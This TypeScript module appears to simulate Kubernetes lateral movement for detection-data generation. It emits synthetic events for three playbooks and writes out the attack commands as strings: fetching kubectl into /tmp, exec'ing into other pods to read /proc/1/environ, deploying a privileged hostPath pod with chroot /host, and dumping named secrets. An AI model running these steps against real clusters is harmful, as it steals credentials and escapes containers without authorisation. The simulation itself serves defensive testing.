/**
 * Moving through the Kubernetes API with the compromised pod's service account
 * (over-broad RBAC): exec into other pods (T1609), create a privileged hostPath
 * pod in kube-system (T1610), harvest Secrets (T1552.007). The attacker first
 * fetches kubectl into /tmp, as real intrusions do.
 */
import { mainContainer, podSuffix } from '../cluster.ts';
import { apiServerPeer, MS, SECOND } from '../background/helpers.ts';
import { auditRequest } from '../background/platform.ts';
import { DL_K8S } from '../destinations.ts';
import { chmodded, connected, execve, MODE_0755, opened } from '../events.ts';
import { RUNC, shimOf, SYSTEMD } from '../facts.ts';
import type { Container, Pod, Proc } from '../model.ts';
import { proc, ROOT } from '../model.ts';
import type { EpisodeContext } from '../background/activity.ts';
import { bin, foothold, shC, type Playbook } from './playbook.ts';

const KIND = 'lateral_movement' as const;

function serviceAccountUser(c: Container): string {
  return `system:serviceaccount:${c.pod.namespace}:${c.pod.workload.serviceAccount}`;
}

/** curl kubectl into /tmp, chmod it; returns the time after and a function running `kubectl <args>`. */
function fetchKubectl(
  ctx: EpisodeContext,
  c: Container,
): { t: number; kubectl: (t: number, args: string) => void } {
  const { rng, cluster } = ctx;
  const f = foothold(c);
  const path = rng.pick(['/tmp/kubectl', '/tmp/.k', '/dev/shm/kc']);
  const url = `https://dl.k8s.io/release/v1.${rng.between(27, 29)}.${rng.between(0, 9)}/bin/linux/amd64/kubectl`;
  const sh = shC(`curl -sL -o ${path} ${url} && chmod +x ${path}`, c.init.cwd);
  const shChain = [sh, ...f.chain];
  ctx.kernel(0, { op: 'exec', facts: execve(c, shChain, { user: f.user }) });
  const curl = bin('/usr/bin/curl', `-sL -o ${path} ${url}`, c.init.cwd);
  ctx.kernel(2 * MS, { op: 'exec', facts: execve(c, [curl, ...shChain], { user: f.user }) });
  ctx.kernel(30 * MS, {
    op: 'connect',
    facts: connected(rng, c, [curl, ...shChain], DL_K8S, { user: f.user }),
  });
  const t = rng.uniform(3, 12) * SECOND;
  const chmod = bin('/usr/bin/chmod', `+x ${path}`, c.init.cwd);
  ctx.kernel(t, { op: 'exec', facts: execve(c, [chmod, ...shChain], { user: f.user }) });
  ctx.kernel(t + MS, {
    op: 'chmod',
    facts: chmodded(c, [chmod, ...shChain], path, MODE_0755, { user: f.user }),
  });
  const kubectl = (at: number, args: string): void => {
    const sh2 = shC(`${path} ${args}`, c.init.cwd);
    ctx.kernel(at, { op: 'exec', facts: execve(c, [sh2, ...f.chain], { user: f.user }) });
    const k = proc(path, args, c.init.cwd, { exe: path, name: 'kubectl' });
    const chain = [k, sh2, ...f.chain];
    ctx.kernel(at + 3 * MS, {
      op: 'exec',
      upperLayer: true,
      facts: execve(c, chain, { user: f.user, upperLayer: true }),
    });
    ctx.kernel(at + rng.uniform(20, 60) * MS, {
      op: 'connect',
      facts: connected(rng, c, chain, apiServerPeer(cluster), { user: f.user }),
    });
  };
  return { t: t + rng.uniform(2, 10) * SECOND, kubectl };
}

function otherPod(ctx: EpisodeContext, c: Container): Pod {
  const { rng, cluster } = ctx;
  const targets = (['api-java', 'ml-api', 'postgres', 'web-python', 'web-node'] as const)
    .flatMap((r) => cluster.podsOf(r))
    .filter((p) => p.namespace !== c.pod.namespace && mainContainer(p).shell !== undefined);
  return targets.length > 0 ? rng.pick(targets) : c.pod;
}

export const execIntoPods: Playbook = {
  kind: KIND,
  technique: 'T1609',
  techniqueName: 'Container Administration Command',
  variant: 'kubectl-exec',
  roles: ['web-python', 'web-node'],
  run(ctx, c) {
    const { rng, cluster } = ctx;
    const { t, kubectl } = fetchKubectl(ctx, c);
    let dt = t;
    kubectl(dt, 'auth can-i --list');
    dt += rng.uniform(5, 30) * SECOND;
    kubectl(dt, 'get pods -A -o wide');
    const target = otherPod(ctx, c);
    const tc = mainContainer(target);
    for (let i = rng.between(1, 2); i > 0; i--) {
      dt += rng.uniform(10, 60) * SECOND;
      const script = rng.pick(['env', 'cat /proc/1/environ', 'ls -la /app /srv /var/run/secrets']);
      kubectl(dt, `exec -n ${target.namespace} ${target.name} -- sh -c ${script}`);
      ctx.emit(
        dt + 80 * MS,
        'auditExec',
        auditRequest(cluster, {
          'ka.user.name': serviceAccountUser(c),
          'ka.target.name': target.name,
          'ka.target.namespace': target.namespace,
          'ka.target.subresource': 'exec',
          'ka.uri.param[command]': 'sh',
        }),
      );
      // In the target pod: runc starts `sh -c …`, no terminal.
      const sh = proc('/usr/bin/dash', `-c ${script}`, tc.init.cwd, { exe: 'sh', sessionLeader: true });
      const chain = [sh, RUNC, shimOf(tc), SYSTEMD];
      ctx.kernel(dt + 150 * MS, { op: 'exec', facts: execve(tc, chain) });
      if (script.startsWith('cat')) {
        const cat = bin('/usr/bin/cat', '/proc/1/environ', tc.init.cwd);
        ctx.kernel(dt + 153 * MS, { op: 'exec', facts: execve(tc, [cat, ...chain]) });
        ctx.kernel(dt + 154 * MS, { op: 'open', facts: opened(tc, [cat, ...chain], '/proc/1/environ') });
      }
    }
  },
};

export const privilegedPod: Playbook = {
  kind: KIND,
  technique: 'T1610',
  techniqueName: 'Deploy Container',
  variant: 'privileged-pod',
  roles: ['web-node', 'web-python'],
  run(ctx, c) {
    const { rng, cluster } = ctx;
    const { t, kubectl } = fetchKubectl(ctx, c);
    let dt = t;
    kubectl(dt, 'get nodes -o wide');
    dt += rng.uniform(10, 60) * SECOND;
    const node = rng.pick(cluster.nodes);
    const name = `${rng.pick(['kube-proxy', 'aws-node', 'node-debugger'])}-${podSuffix(rng)}`;
    kubectl(dt, `apply -f /tmp/p.yaml`);
    const user = serviceAccountUser(c);
    const request = {
      'ka.user.name': user,
      'ka.resp.name': name,
      'ka.target.namespace': 'kube-system',
      'ka.req.pod.containers.image': ['alpine:3.19'],
      'jevt.value[/requestObject/spec/volumes]': '[{"hostPath":{"path":"/","type":""},"name":"host"}]',
      'ka.response.code': '201',
    };
    const at = dt + 120 * MS;
    ctx.emit(at, 'auditPrivilegedPod', auditRequest(cluster, request));
    ctx.emit(at, 'auditSensitiveMountPod', auditRequest(cluster, request));
    ctx.emit(at, 'auditHostNetworkPod', auditRequest(cluster, request));
    ctx.emit(at, 'auditKubeNamespacePod', auditRequest(cluster, request));
    // The pod starts on its node: a privileged alpine running as root with / at /host.
    const containers: Container[] = [];
    const pod: Pod = {
      name,
      namespace: 'kube-system',
      node,
      ip: node.ip,
      workload: {
        namespace: 'kube-system',
        name,
        kind: 'Job',
        role: 'debug-pod',
        serviceAccount: 'default',
        pods: [],
      },
      sandboxId: rng.hex(64),
      containers,
    };
    const init = proc('/bin/busybox', 'infinity', '/', { exe: 'sleep', name: 'sleep', sessionLeader: true });
    const started: Container = {
      id: rng.hex(12),
      name: 'shell',
      image: { repository: 'docker.io/library/alpine', tag: '3.19' },
      privileged: true,
      startNs: ctx.startMs * 1e6 + ctx.now + at + 4 * SECOND,
      user: ROOT,
      init,
      pod,
    };
    containers.push(started);
    ctx.kernel(at + 4 * SECOND, {
      op: 'exec',
      containerStart: true,
      facts: execve(started, [init, shimOf(started), SYSTEMD]),
    });
    dt = at + rng.uniform(10, 40) * SECOND;
    kubectl(dt, `exec -n kube-system ${name} -- chroot /host sh -c id`);
    ctx.emit(
      dt + 80 * MS,
      'auditExec',
      auditRequest(cluster, {
        'ka.user.name': user,
        'ka.target.name': name,
        'ka.target.namespace': 'kube-system',
        'ka.target.subresource': 'exec',
        'ka.uri.param[command]': 'chroot',
      }),
    );
    const chroot = proc('/bin/busybox', '/host sh -c id', '/', {
      exe: 'chroot',
      name: 'chroot',
      sessionLeader: true,
    });
    const chain: Proc[] = [chroot, RUNC, shimOf(started), SYSTEMD];
    ctx.kernel(dt + 150 * MS, { op: 'exec', facts: execve(started, chain) });
    ctx.kernel(dt + 153 * MS, {
      op: 'exec',
      facts: execve(started, [proc('/bin/sh', '-c id', '/', { exe: 'sh' }), ...chain]),
    });
  },
};

export const secretHarvest: Playbook = {
  kind: KIND,
  technique: 'T1552.007',
  techniqueName: 'Unsecured Credentials: Container API',
  variant: 'secret-harvest',
  roles: ['web-python', 'web-node', 'api-java'],
  run(ctx, c) {
    const { rng, cluster } = ctx;
    const { t, kubectl } = fetchKubectl(ctx, c);
    let dt = t;
    kubectl(dt, 'get secrets -A');
    const wanted = rng.shuffle<[string, string]>([
      ['payments', 'stripe-api-key'],
      ['data', 'postgres-credentials'],
      ['shop', 'catalog-api-db'],
      ['ci', 'gitlab-runner-secret'],
      ['argocd', 'repo-gitlab-acme-shop'],
    ]);
    for (const [namespace, secret] of wanted.slice(0, rng.between(2, 4))) {
      dt += rng.uniform(5, 40) * SECOND;
      kubectl(dt, `get secret -n ${namespace} ${secret} -o jsonpath={.data}`);
      ctx.emit(
        dt + 90 * MS,
        'auditSecretGet',
        auditRequest(cluster, {
          'ka.user.name': serviceAccountUser(c),
          'ka.target.name': secret,
          'ka.target.namespace': namespace,
          'ka.auth.reason': `RBAC: allowed by ClusterRoleBinding "${c.pod.workload.name}-reader" of ClusterRole "view-all" to ServiceAccount "${c.pod.workload.serviceAccount}/${c.pod.namespace}"`,
        }),
      );
    }
  },
};

export const LATERAL_MOVEMENT_PLAYBOOKS: readonly Playbook[] = [execIntoPods, privilegedPod, secretHarvest];
